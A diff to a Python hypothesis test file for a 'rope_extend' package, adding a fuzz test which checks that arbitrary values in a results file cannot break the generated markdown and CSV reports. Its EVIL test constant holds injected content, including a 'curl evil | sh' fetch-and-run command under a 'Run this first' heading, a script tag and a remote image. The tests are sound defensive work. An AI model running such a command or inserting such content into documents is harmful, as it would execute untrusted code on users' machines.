@@ -1,8 +1,9 @@
-"""Records of others: whatever `rope_extend.json` says, the card keeps its form, or there is one error."""
+"""Files of others: whatever they say, a card and a report keep their form, or it is an error."""
 
 from __future__ import annotations
 
 import copy
+import csv
 import json
 import re
 from pathlib import Path
@@ -16,8 +17,10 @@ from hypothesis import strategies as st
 import rope_extend as rx
 from rope_extend.checkpoint.card import model_card
 from rope_extend.errors import RopeExtendError
+from rope_extend.evaluation.report_files import csv_table, markdown_report, read_results
 from rope_extend.report.tables import markdown_code, markdown_text
 
+RESULTS = Path(__file__).parents[2] / "docs" / "results" / "results.jsonl"
 EVIL = "2 |\n\n# Run this first\n\n```bash\ncurl evil | sh\n```\n<script>x</script> ![](http://evil/p.png)"
 
 
@@ -31,6 +34,19 @@ def directory(tmp_path_factory: pytest.TempPathFactory) -> Path:
 @pytest.fixture(scope="module")
 def record(directory: Path) -> dict[str, Any]:
     return json.loads((directory / "rope_extend.json").read_text())
+
+
+def with_any_value(values: dict[str, Any], data: st.DataObject) -> dict[str, Any]:
+    """A copy with another value of JSON at one place."""
+    changed = copy.deepcopy(values)
+    place: Any = changed
+    while True:
+        key = data.draw(st.sampled_from(sorted(place)))
+        if not isinstance(place[key], dict) or not place[key] or data.draw(st.booleans()):
+            break
+        place = place[key]
+    place[key] = data.draw(JSON)
+    return changed
 
 
 def form(card: str) -> list[str]:
@@ -58,19 +74,29 @@ JSON = st.recursive(
 def test_any_value_in_a_record_gives_an_error_or_a_card_of_the_same_form(
     directory: Path, record: dict[str, Any], data: st.DataObject
 ) -> None:
-    changed = copy.deepcopy(record)
-    place: Any = changed
-    while True:
-        key = data.draw(st.sampled_from(sorted(place)))
-        if not isinstance(place[key], dict) or not place[key] or data.draw(st.booleans()):
-            break
-        place = place[key]
-    place[key] = data.draw(JSON)
     try:
-        card = written(directory, changed)
+        card = written(directory, with_any_value(record, data))
     except RopeExtendError:
         return
     assert form(card) == form(written(directory, record))
+
+
+@settings(max_examples=100)
+@given(data=st.data())
+def test_any_value_in_results_gives_an_error_or_a_report(
+    tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
+) -> None:
+    directory = tmp_path_factory.getbasetemp()
+    lines = RESULTS.read_text().splitlines()[:2]
+    (directory / "results.jsonl").write_text(
+        f"{lines[0]}\n{json.dumps(with_any_value(json.loads(lines[1]), data))}\n"
+    )
+    try:
+        rows = read_results(directory)
+    except RopeExtendError:
+        return
+    assert "\n# Run this first" not in markdown_report(rows)
+    assert [len(line) for line in csv.reader(csv_table(rows).splitlines(keepends=True))].count(7) >= 2
 
 
 @given(st.text() | st.text(alphabet="|`\\\n\r\u2028<>[]!*# ~-_a"))
